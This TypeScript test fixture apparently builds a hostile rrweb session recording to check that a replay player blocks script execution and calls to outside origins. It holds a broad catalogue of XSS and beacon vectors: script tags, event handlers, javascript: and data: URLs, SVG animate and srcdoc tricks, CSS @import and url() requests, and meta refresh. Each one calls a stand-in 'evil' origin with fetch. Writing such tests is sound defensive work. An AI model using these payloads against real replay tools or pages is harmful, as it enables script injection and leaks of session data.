import { SITE } from './studioTest.ts';

/** When the recording begins. */
export const START = 1_764_000_000_000;
/** Sets a mark on the studio's page, and asks a stranger. */
const runOf = (evil: string) => `top.hasRun = true; document.title = 'hacked'; fetch('${evil}/ran')`;

let nextId = 10;
type Node = Record<string, unknown>;
const element = (tagName: string, attributes: object = {}, childNodes: Node[] = []): Node => {
  nextId += 1;
  return { type: 2, id: nextId, tagName, attributes, childNodes };
};
const text = (textContent: string): Node => {
  nextId += 1;
  return { type: 3, id: nextId, textContent };
};
const svg = (tagName: string, attributes: object = {}, childNodes: Node[] = []): Node => ({
  ...element(tagName, attributes, childNodes),
  isSVG: true,
});
const inShadow = (...childNodes: Node[]): Node => ({
  ...element(
    'div',
    {},
    childNodes.map((node) => ({ ...node, isShadow: true })),
  ),
  isShadowHost: true,
});

/** What a client could send to make a player run something, or ask a stranger. */
function hostileNodes(evil: string): Node[] {
  const run = runOf(evil);
  const page = `data:text/html,<script>${run}</script>`;
  const css = `@import url(${evil}/import.css); h1 { background: url(${evil}/a), image-set(url(${evil}/b) 1x); cursor: url(${evil}/c), auto }
    @font-face { font-family: x; src: url(${evil}/font) } p { font-family: x } li { list-style: url(${evil}/d); mask: url(${evil}/e#f) }`;
  const script = (tag: string) => svg(tag, { 'xlink:href': `${evil}/svg.js`, href: `${evil}/svg.js` }, [text(run)]);
  return [
    ...[element('script', {}, [text(run)]), element('script', { src: `${evil}/a.js`, type: 'module' })],
    ...['onerror', 'ONERROR', 'onload'].map((name) => element('img', { src: `${evil}/picture.png`, [name]: run })),
    element('img', { srcset: `${evil}/set.png 1x`, rr_dataURL: `${evil}/drawn`, attributionsrc: `${evil}/source` }),
    element('picture', {}, [element('source', { srcset: `${evil}/source.png` }), element('img', { src: 'x' })]),
    svg('svg', { onload: run }, [
      ...[script('script'), script('svg:script')],
      ...['image', 'use', 'feImage'].map((tag) => svg(tag, { href: `${evil}/svg.svg#a`, 'xlink:href': `${evil}/svg` })),
      svg('a', { href: '#' }, [svg('animate', { attributeName: 'href', values: `javascript:${run}` }), text('x')]),
      svg('foreignObject', {}, [element('iframe', { srcdoc: `<script>${run}</script>` })]),
    ]),
    ...[`javascript:${run}`, ` java\nscript:${run}`, page, `${evil}/link`].flatMap((href) => [
      element('a', { href, ping: `${evil}/ping` }, [text('A link')]),
      element('a', { href, target: '_blank' }, [text('A link')]),
      element('a', { href, target: '_top' }, [text('A link')]),
      element('a', { href, download: 'a.exe' }, [text('A link')]),
    ]),
    element('iframe', { srcdoc: `<script>${run}</script>`, src: `${evil}/frame` }),
    ...[page, `javascript:${run}`, `${evil}/frame`].map((src) => element('iframe', { src })),
    ...[evil, page].flatMap((data) => [element('object', { data }), element('embed', { src: data })]),
    element('base', { href: `${evil}/` }),
    element('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
    ...['preload', 'modulepreload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'prerender'].map(
      (rel) => element('link', { rel, as: 'image', href: `${evil}/${rel}` }),
    ),
    element('style', { _cssText: css }),
    element('style', {}, [text(css)]),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    element('video', { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: '', rr_mediaState: 'played' }, [
      element('track', { src: `${evil}/track`, default: '' }),
    ]),
    element('audio', { src: `${evil}/audio`, autoplay: '' }),
    element('canvas', { rr_dataURL: `${evil}/canvas` }),
    element('form', { action: `${evil}/form`, method: 'post' }, [
      element('input', { type: 'image', src: `${evil}/input`, formaction: `${evil}/button` }),
      element('button', { formaction: `javascript:${run}` }),
    ]),
    element('details', { open: '', ontoggle: run }),
    element('input', { autofocus: '', onfocus: run }),
    inShadow(
      element('img', { src: `${evil}/shadow.png`, onerror: run }),
      inShadow(element('script', {}, [text(run)]), element('style', { _cssText: css })),
    ),
    element('table', { background: `${evil}/background` }),
    element(
      'div',
      {},
      Array.from({ length: 5_000 }, () => element('i', { class: 'x'.repeat(100) })),
    ),
  ];
}

const change = (at: number, data: object) => ({ type: 3, timestamp: START + at, data });

/** A recording of rrweb that begins with a page of hostile nodes, and goes on with hostile changes. @param evil origin of a stranger */
export function hostileRecording(evil: string): object[] {
  const run = runOf(evil);
  const body = {
    ...{ type: 2, id: 5, tagName: 'body', attributes: { onload: run, background: `${evil}/body` } },
    childNodes: [
      element('h1', {}, [text('Plans for <b>every</b> team')]),
      element('img', { src: `${SITE}/images/plan.png`, alt: 'A plan' }),
      ...hostileNodes(evil),
    ],
  };
  const head = { type: 2, id: 4, tagName: 'head', attributes: {}, childNodes: [] };
  const html = {
    type: 2,
    id: 3,
    tagName: 'html',
    attributes: { manifest: `${evil}/manifest` },
    childNodes: [head, body],
  };
  const doctype = { type: 1, id: 2, name: 'html', publicId: '', systemId: '' };
  const rules = [{ rule: `@import url(${evil}/rule.css)` }, { rule: `h1 { background: url(${evil}/rule) }` }];
  return [
    { type: 4, timestamp: START, data: { href: `${SITE}/pricing`, width: 800, height: 600 } },
    {
      ...{ type: 2, timestamp: START + 10 },
      data: { initialOffset: { top: 0, left: 0 }, node: { type: 0, id: 1, childNodes: [doctype, html] } },
    },
    ...[1_000, 2_000, 3_000, 4_000].map((at) =>
      change(at, {
        ...{ source: 0, texts: [], removes: [] },
        attributes: [{ id: 5, attributes: { onclick: run, style: `background: url(${evil}/changed)` } }],
        adds: [element('img', { src: 'x', onerror: run }), ...hostileNodes(evil).slice(0, -1)].map((node) => ({
          ...{ parentId: 5, nextId: null, node },
        })),
      }),
    ),
    change(1_100, {
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: rules.map((one, index) => ({ ...one, index })) }],
    }),
    change(1_200, {
      source: 9,
      id: 5,
      type: 0,
      commands: [{ property: 'drawImage', args: [{ src: `${evil}/drawn` }] }],
    }),
    change(1_300, { source: 10, family: 'x', fontSource: `${evil}/font`, buffer: false }),
    { type: 5, timestamp: START + 1_400, data: { tag: 'x', payload: { html: `<img src=x onerror="${run}">` } } },
    { type: 6, timestamp: START + 1_500, data: { plugin: 'rrweb/console@1', payload: { level: 'log', trace: [run] } } },
  ];
}
